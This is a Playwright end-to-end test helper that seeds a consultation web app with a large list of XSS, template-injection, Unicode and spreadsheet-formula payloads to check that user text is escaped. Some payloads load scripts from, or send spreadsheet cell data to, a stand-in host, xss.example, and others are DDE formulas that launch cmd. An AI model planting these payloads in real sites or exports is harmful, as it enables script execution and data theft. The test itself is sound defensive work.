import { randomUUID } from 'node:crypto';
import type { APIResponse, Browser, BrowserContext } from '@playwright/test';
import { mailedLink } from '../../support/mail.ts';
import { baseURL, expect, mailDir, people, postForm, signIn, test } from '../fixtures.ts';
import { openDataPages } from './open-data.ts';

/*
 * The hostile strings of xss.spec.ts and how they are written: more than fifty payloads spread over
 * every text field a person can fill (every field gets at least five, every payload lands in at
 * least one), posted as real same-origin forms by Občina Bled, ZMOS, a moderator and new accounts.
 */

export const CHAPTERS = ['digitalne-kompetence-in-vkljucenost', 'zeleni-prehod'] as const;
export const COMMENT_COUNT = 16;
export const NAME_COUNT = 5;

// ——— payloads ——————————————————————————————————————————————————————————————————————————————

export type Field = 'body' | 'proposedText' | 'rationale' | 'response' | 'note' | 'tags' | 'name';
export const FIELDS: Field[] = ['body', 'rationale', 'response', 'proposedText', 'note', 'name', 'tags'];
/** Fields that end up in the CSV and XLSX downloads. */
export const SPREADSHEET_FIELDS: Field[] = ['body', 'proposedText', 'rationale', 'response'];
export const MAX_LENGTH: Record<Field, number> = { body: 10_000, proposedText: 10_000, rationale: 5_000, response: 10_000, note: 5_000, tags: 40, name: 120 };
/** How many payloads a field can take at most (one per comment, one per account). */
export const CAPACITY: Record<Field, number> = { body: COMMENT_COUNT, proposedText: 8, rationale: COMMENT_COUNT, response: COMMENT_COUNT, note: 20, tags: 8, name: NAME_COUNT };

export interface Template {
  label: string;
  make: (m: string) => string;
  /** A spreadsheet formula: goes only into fields that reach the CSV/XLSX. */
  formula?: boolean;
  /** Fields it certainly goes into (besides wherever the spreading puts it). */
  into?: Field[];
}

export const TEMPLATES: Template[] = [
  // <script>
  { label: 'script', make: (m) => `<script>alert('${m}')</script>` },
  { label: 'script src', make: (m) => `<SCRIPT SRC=//xss.example/${m}.js></SCRIPT>` },
  { label: 'script setting a flag', make: (m) => `<script>window.__xss='${m}'</script>` },
  { label: 'textarea breakout', make: (m) => `</textarea><script>alert('${m}')</script>`, into: ['response', 'note'] },
  { label: 'title breakout', make: (m) => `</title><script>alert('${m}')</script>` },
  { label: 'nested script', make: (m) => `<scr<script>ipt>alert('${m}')</scr</script>ipt>` },
  { label: 'comment breakout', make: (m) => `--><script>alert('${m}')</script><!--` },
  // <img onerror>
  { label: 'img onerror', make: (m) => `<img src=x onerror=alert('${m}')>` },
  { label: 'img onerror flag', make: (m) => `<img src="x" onerror="window.__xss='${m}'">` },
  { label: 'img unclosed mixed case', make: (m) => `<IMG SRC=x oNeRrOr=alert('${m}')//` },
  { label: 'img eval(src)', make: (m) => `<img src=x:alert(alt) onerror=eval(src) alt='${m}'>` },
  // <svg>
  { label: 'svg onload', make: (m) => `<svg onload=alert('${m}')>` },
  { label: 'svg script', make: (m) => `<svg><script>alert('${m}')</script></svg>` },
  { label: 'svg animate onbegin', make: (m) => `<svg><animate onbegin=alert('${m}') attributeName=x dur=1s>` },
  { label: 'svg xlink javascript', make: (m) => `<svg><a xlink:href="javascript:alert('${m}')"><text x="20" y="20">${m}</text></a></svg>` },
  // javascript: URLs
  { label: 'bare javascript: URL', make: (m) => `javascript:alert('${m}')` },
  { label: 'mixed-case javascript: URL', make: (m) => `JaVaScRiPt:alert('${m}')//` },
  { label: 'javascript: URL with a tab', make: (m) => `java\tscript:alert('${m}')` },
  { label: 'anchor with javascript:', make: (m) => `<a href="javascript:alert('${m}')">klikni ${m}</a>` },
  { label: 'anchor with entity-encoded javascript:', make: (m) => `<a href="&#106;avascript:alert('${m}')">${m}</a>` },
  // text the linkifier turns into links
  { label: 'URL then a script', make: (m) => `${m} https://x.example/"><script>alert('${m}')</script>` },
  { label: 'URL with a script in the query', make: (m) => `${m} http://a.b/?q=<script>alert('${m}')</script>` },
  { label: 'URL with a single-quoted handler', make: (m) => `${m} https://x.example/'onmouseover='alert(1)'` },
  { label: 'URL with javascript: in the path', make: (m) => `${m} https://x.example/javascript:alert('${m}')` },
  { label: 'URL with a double-quoted handler', make: (m) => `${m} http://x.example/#"onfocus="alert('${m}')" autofocus="` },
  { label: 'URL with backticks', make: (m) => `${m} https://x.example/\`onmouseover=alert(1)\`` },
  { label: 'URL percent-encoded script', make: (m) => `${m} https://x.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E` },
  { label: 'javascript: dressed as a URL', make: (m) => `${m} javascript://x.example/%0aalert(1) http://javascript:alert(1)@x.example/` },
  // attribute breakers
  { label: 'double quote then img', make: (m) => `"><img src=x onerror=alert('${m}')>` },
  { label: 'single quote then svg', make: (m) => `'><svg onload=alert('${m}')>` },
  { label: 'autofocus onfocus', make: (m) => `" autofocus onfocus="alert('${m}')` },
  { label: 'single-quoted onmouseover', make: (m) => `' onmouseover='alert("${m}")' x='` },
  { label: 'quote then iframe', make: (m) => `"/><iframe src="javascript:alert('${m}')">` },
  // template and markup metacharacters
  { label: 'mustache', make: (m) => `{{7*7}} ${m} {{constructor.constructor('alert(1)')()}}` },
  { label: 'JavaScript template', make: (m) => `\${7*7} ${m} \${alert('${m}')}` },
  { label: 'ERB', make: (m) => `<%= 7*7 %> ${m} <%- alert(1) %>` },
  { label: 'Svelte {@html}', make: (m) => `{@html '<img src=x onerror=alert(1)>'} ${m}` },
  { label: 'other template syntaxes', make: (m) => `#{7*7} [[7*7]] {{{html}}} {% raw %} ${m}` },
  // entity tricks
  { label: 'named entities', make: (m) => `&lt;script&gt;alert('${m}')&lt;/script&gt;` },
  { label: 'hex entities', make: (m) => `&#x3C;script&#x3E;alert('${m}')&#x3C;/script&#x3E;` },
  { label: 'decimal entities', make: (m) => `&#60;img src=x onerror=alert('${m}')&#62;` },
  { label: 'JavaScript escapes', make: (m) => `\\u003cscript\\u003ealert('${m}')\\u003c/script\\u003e` },
  { label: 'percent-encoded script', make: (m) => `%3Cscript%3Ealert('${m}')%3C%2Fscript%3E` },
  // CSS and style injection
  { label: 'style element', make: (m) => `<style>body{display:none}</style>${m}` },
  { label: 'style url(javascript:)', make: (m) => `<div style="background:url(javascript:alert('${m}'))">${m}</div>` },
  { label: 'overlay style', make: (m) => `<p style="position:fixed;inset:0;background:red" title="${m}">prekrivanje</p>` },
  { label: 'stylesheet link', make: (m) => `</style><link rel=stylesheet href=//xss.example/${m}.css>` },
  { label: 'CSS expression()', make: (m) => `<span style="width:expression(alert('${m}'))">${m}</span>` },
  // frames and plugins
  { label: 'iframe srcdoc', make: (m) => `<iframe srcdoc="<script>alert('${m}')</script>"></iframe>` },
  { label: 'iframe javascript:', make: (m) => `<iframe src=javascript:alert('${m}')>` },
  { label: 'object and embed', make: (m) => `<object data="javascript:alert('${m}')"></object><embed src=javascript:alert(1)>` },
  // MathML, details and friends
  { label: 'MathML mutation', make: (m) => `<math><mtext><table><mglyph><style><img src=x onerror=alert('${m}')>` },
  { label: 'details ontoggle', make: (m) => `<details open ontoggle=alert('${m}')>` },
  { label: 'marquee onstart', make: (m) => `<marquee onstart=alert('${m}')>${m}</marquee>` },
  { label: 'input autofocus', make: (m) => `<input autofocus onfocus=alert('${m}')>` },
  { label: 'form action javascript:', make: (m) => `<form action="javascript:alert('${m}')"><button>${m}</button></form>` },
  { label: 'meta refresh', make: (m) => `<meta http-equiv="refresh" content="0;url=javascript:alert('${m}')">` },
  { label: 'base href', make: (m) => `<base href="//xss.example/${m}/">` },
  { label: 'body onload', make: (m) => `<body onload=alert('${m}')>` },
  { label: 'bold', make: (m) => `<b>${m}</b>`, into: ['tags'] },
  // Unicode
  { label: 'RTL override', make: (m) => `${m} \u202Egnp.exe\u202C \u202E>tpircs/<)1(trela>tpircs<` },
  { label: 'fullwidth brackets', make: (m) => `${m} ＜script＞alert(1)＜/script＞` },
  { label: 'zero-width space, combining marks, emoji', make: (m) => `${m} <\u200Bscript>alert(1)</\u200Bscript> Z̸̢͎a̴l̷g̶o 🙂` },
  { label: 'line and paragraph separators', make: (m) => `${m}\u2028<img src=x onerror=alert(1)>\u2029konec` },
  { label: 'Hebrew letters', make: (m) => `${m} שלום עולם`, into: ['tags', 'name'] },
  { label: 'fullwidth letters', make: (m) => `${m} ｓｃｒｉｐｔ`, into: ['tags'] },
  // Not in the exported fields: the XLSX cannot hold U+FFFE/U+FFFF (its writer drops them), so the
  // report's CSV and XLSX would differ, which moderation.spec.ts compares.
  { label: 'noncharacters', make: (m) => `${m} \uFFFE\uFFFF <b>ne</b>`, into: ['note', 'name'] },
  // very long
  { label: 'very long', make: (m) => `${m} ${'<img src=x onerror=alert(1)>'.repeat(300)}` },
  // null-ish
  { label: 'NUL inside a tag', make: (m) => `${m} <scr\u0000ipt>alert(1)</scr\u0000ipt>`, into: ['body'] },
  { label: 'null words', make: (m) => `${m} null undefined NaN \\0 %00 \u0000` },
  { label: 'control characters', make: (m) => `${m} \u0001\u0008\u001B[31mrdeče\u001B[0m\u007F`, into: ['response'] },
  // spreadsheet formulas
  { label: '=HYPERLINK', formula: true, make: (m) => `=HYPERLINK("http://xss.example/${m}","klikni")` },
  { label: '+cmd DDE', formula: true, make: (m) => `+cmd|' /C calc'!A0 ${m}` },
  { label: '-2+3', formula: true, make: (m) => `-2+3 ${m}` },
  { label: '@SUM', formula: true, make: (m) => `@SUM(1,1)*cmd|' /C calc'!A0 ${m}` },
  { label: 'tab then =1+1', formula: true, make: (m) => `\t=1+1 ${m}` },
  { label: 'CR then =1+1', formula: true, make: (m) => `\r=1+1 ${m}` },
  { label: '=cmd DDE', formula: true, make: (m) => `=cmd|' /C notepad'!'A1' ${m}` },
  { label: '=IMPORTXML', formula: true, make: (m) => `=IMPORTXML(CONCAT("http://xss.example/?",A1),"//a") ${m}` },
];

export interface Payload {
  n: number;
  label: string;
  marker: string;
  /** As posted. */
  raw: string;
  /** As the server stores it: line breaks as LF, control characters other than tab and LF dropped, trimmed. */
  stored: string;
  formula: boolean;
  into: Field[];
}

/** What the form handling does to every field (src/lib/server/forms.ts) plus the fields' trim(). */
export function storedForm(text: string): string {
  return text
    .replace(/\r\n?/g, '\n')
    .replace(/[\u0000-\u0008\u000B-\u001F\u007F]/g, '')
    .trim();
}

export function makePayloads(run: string): Payload[] {
  return TEMPLATES.map((t, i) => {
    const marker = `xss-${i + 1}-${run}`;
    const raw = t.make(marker);
    return { n: i + 1, label: t.label, marker, raw, stored: storedForm(raw), formula: !!t.formula, into: t.into ?? [] };
  });
}

export function fits(p: Payload, field: Field): boolean {
  if (p.stored.length === 0 || p.stored.length > MAX_LENGTH[field]) return false;
  if (p.formula && !SPREADSHEET_FIELDS.includes(field)) return false;
  return true;
}

/**
 * Spreads the payloads over the fields: each payload goes to the first field (starting from a
 * different one for each) that fits it and has room; then every field is topped up to at least five
 * (the body to one per comment) with the least used payloads it does not have yet.
 */
export function allocate(payloads: Payload[]): Record<Field, Payload[]> {
  const out = Object.fromEntries(FIELDS.map((f) => [f, [] as Payload[]])) as Record<Field, Payload[]>;
  const uses = new Map<Payload, number>(payloads.map((p) => [p, 0]));
  const put = (f: Field, p: Payload) => {
    out[f].push(p);
    uses.set(p, uses.get(p)! + 1);
  };
  for (const p of payloads) for (const f of p.into) if (fits(p, f)) put(f, p);
  // The most constrained first (formulas fit only the spreadsheet fields, the very long one only a few).
  const choices = (p: Payload) => FIELDS.filter((f) => fits(p, f)).length;
  const order = payloads.filter((p) => !p.into.length).sort((a, b) => choices(a) - choices(b));
  order.forEach((p, i) => {
    for (let k = 0; k < FIELDS.length; k++) {
      const f = FIELDS[(i + k) % FIELDS.length];
      if (out[f].length < CAPACITY[f] && fits(p, f)) {
        put(f, p);
        return;
      }
    }
  });
  for (const f of FIELDS) {
    const want = f === 'body' ? COMMENT_COUNT : 5;
    while (out[f].length < want) {
      const candidates = payloads.filter((p) => fits(p, f) && !out[f].includes(p)).sort((a, b) => uses.get(a)! - uses.get(b)!);
      if (!candidates.length) break;
      put(f, candidates[0]);
    }
  }
  return out;
}

// ——— the seeded data —————————————————————————————————————————————————————————————————————————

export interface SeededComment {
  id: number;
  author: 'bled' | 'zmos';
  chapter: string;
  /** 1-based position in the chapter: the block page is /posvetovanja/ds2030/osnutek/<chapter>/<position>. */
  position: number;
  /** "3.1" */
  blockNumber: string;
  body: Payload;
  proposedText?: Payload;
  rationale?: Payload;
  response?: Payload;
  notes: Payload[];
  tags: string[];
}

export type StorageState = Awaited<ReturnType<BrowserContext['storageState']>>;

export interface NamedAccount {
  email: string;
  name: Payload;
  /** Signed in as this account. */
  state: StorageState;
}

export interface Seeded {
  run: string;
  payloads: Payload[];
  fields: Record<Field, Payload[]>;
  comments: SeededComment[];
  accounts: NamedAccount[];
  /** Tag payloads the server refused (with 400), and those it kept. */
  refusedTags: Payload[];
  acceptedTags: Payload[];
  /** The tag every seeded comment gets, to filter the queue by. */
  plainTag: string;
  /** Signed-in sessions, for contexts of each test's own. */
  states: Record<'bled' | 'zmos' | 'moderator' | 'admin', StorageState>;
}

export async function signedInContext(browser: Browser, email: string): Promise<BrowserContext> {
  const context = await browser.newContext({ baseURL: baseURL() });
  const page = await context.newPage();
  await signIn(page, email);
  await page.close();
  return context;
}

/** A same-origin form post with the context's cookies, as the browser would send it. */
export const post = postForm;

export function expectRedirect(response: APIResponse, what: string): void {
  expect(response.status(), `${what}: status (location ${response.headers().location ?? '—'})`).toBe(303);
}

/** Občina Bled's id in the administrator's invitation form. */
export async function bledOrganisationId(admin: BrowserContext): Promise<string> {
  const html = await (await admin.request.get('/admin')).text();
  const id = /<option value="(\d+)"[^>]*>\s*Občina Bled\s*<\/option>/.exec(html)?.[1];
  expect(id, 'Občina Bled in the invitation form on /admin').toBeTruthy();
  return id!;
}

export async function invite(admin: BrowserContext, organisationId: string, email: string): Promise<string> {
  expectRedirect(await post(admin, '/admin', { intent: 'invite', email, organisationId, role: 'member' }), `inviting ${email}`);
  return mailedLink(mailDir(), email, 'povabilo');
}

export async function seed(browser: Browser): Promise<Seeded> {
  const run = `${Date.now().toString(36).slice(-5)}${test.info().workerIndex}`;
  const payloads = makePayloads(run);
  const fields = allocate(payloads);
  const [bled, zmos, moderator, admin] = await Promise.all([people.bled, people.zmos, people.moderator, people.admin].map((email) => signedInContext(browser, email)));
  const anonymous = await browser.newContext({ baseURL: baseURL() });
  const opened = [bled, zmos, moderator, admin, anonymous];

  // Comments: two per block on blocks 1–4 of two chapters, Bled and ZMOS in turn.
  const drafts = Array.from({ length: COMMENT_COUNT }, (_, j) => ({
    author: (j % 2 === 0 ? 'bled' : 'zmos') as 'bled' | 'zmos',
    chapter: CHAPTERS[j < COMMENT_COUNT / 2 ? 0 : 1],
    position: Math.floor((j % (COMMENT_COUNT / 2)) / 2) + 1,
    body: fields.body[j],
    proposedText: fields.proposedText[j],
    rationale: fields.rationale[j],
    response: fields.response[j],
  }));
  for (const d of drafts) {
    const path = `/posvetovanja/ds2030/osnutek/${d.chapter}/${d.position}`;
    const form: Record<string, string> = {
      kind: d.proposedText ? 'amendment' : 'comment',
      body: d.body.raw,
      intent: 'submit',
      returnTo: path,
      idempotencyKey: randomUUID(),
    };
    if (d.proposedText) form.proposedText = d.proposedText.raw;
    if (d.rationale) form.rationale = d.rationale.raw;
    const response = await post(d.author === 'bled' ? bled : zmos, path, form);
    expectRedirect(response, `submitting "${d.body.label}" on ${path}`);
    expect(response.headers().location).toBe(`${path}?sporocilo=pripomba-oddana`);
  }
  const api = await openDataPages<{ id: number; body: string; block: string }>(anonymous.request);
  const comments: SeededComment[] = drafts.map((d) => {
    const found = api.filter((c) => c.body === d.body.stored);
    expect(found, `the comment with "${d.body.label}" is public, once`).toHaveLength(1);
    return { ...d, id: found[0].id, blockNumber: found[0].block, notes: [], tags: [] };
  });

  // The moderator answers, notes and tags.
  const statuses = ['rejected', 'noted', 'partially_accepted'];
  await Promise.all(
    comments.map(async (c, j) => {
      const path = `/moderacija/pripombe/${c.id}`;
      if (!c.response) return;
      // Drafted by the moderator, approved by the administrator (a second person), published below.
      expectRedirect(await post(moderator, path, { intent: 'draft', status: statuses[j % statuses.length], response: c.response.raw }), `stance on ${c.id}`);
      expectRedirect(await post(admin, path, { intent: 'review', verdict: 'approve', reviewNote: '' }), `approving the stance on ${c.id}`);
    }),
  );
  const answered = comments.filter((c) => c.response).map((c) => c.id);
  if (answered.length) expectRedirect(await post(admin, '/moderacija/objava?posvetovanje=ds2030', { objavi: 'vse', ids: answered.join(',') }), 'publishing the stances');
  fields.note.forEach((p, k) => comments[k % 4].notes.push(p));
  for (const c of comments.slice(0, 4)) {
    for (const note of c.notes) expectRedirect(await post(moderator, `/moderacija/pripombe/${c.id}`, { intent: 'note', note: note.raw }), `note "${note.label}" on ${c.id}`);
  }
  // Each tag payload is tried alone (a tag list is comma-separated and replaced as a whole).
  const plainTag = `oznaka-${run}`;
  const refusedTags: Payload[] = [];
  const acceptedTags: Payload[] = [];
  const tagged = comments[0];
  for (const p of fields.tags) {
    const response = await post(moderator, `/moderacija/pripombe/${tagged.id}`, { intent: 'tags', tags: p.raw });
    expect([303, 400], `tag "${p.label}": stored (303) or refused (400)`).toContain(response.status());
    (response.status() === 303 ? acceptedTags : refusedTags).push(p);
  }
  tagged.tags = [plainTag, ...acceptedTags.map((p) => p.stored)];
  expectRedirect(await post(moderator, `/moderacija/pripombe/${tagged.id}`, { intent: 'tags', tags: tagged.tags.join(', ') }), 'the final tags');
  for (const c of comments.slice(1)) {
    c.tags = [plainTag];
    expectRedirect(await post(moderator, `/moderacija/pripombe/${c.id}`, { intent: 'tags', tags: plainTag }), `tag on ${c.id}`);
  }

  // Accounts named with payloads: invited into Občina Bled by the administrator, accepted by a plain post.
  const organisationId = await bledOrganisationId(admin);
  const accounts: NamedAccount[] = [];
  for (const [i, name] of fields.name.entries()) {
    const email = `xss-ime-${i + 1}-${run}@obcina-e2e.si`;
    const path = await invite(admin, organisationId, email);
    const context = await browser.newContext({ baseURL: baseURL() });
    const password = `Zelena jablana cveti ${run} ${i}`;
    const accepted = await post(context, path, { username: email, name: name.raw, password, passwordConfirm: password });
    expectRedirect(accepted, `accepting the invitation as "${name.label}"`);
    expect(accepted.headers().location).toBe('/moj-racun');
    accounts.push({ email, name, state: await context.storageState() });
    await context.close();
  }

  const states = { bled: await bled.storageState(), zmos: await zmos.storageState(), moderator: await moderator.storageState(), admin: await admin.storageState() };
  for (const context of opened) await context.close();
  return { run, payloads, fields, comments, accounts, refusedTags, acceptedTags, plainTag, states };
}
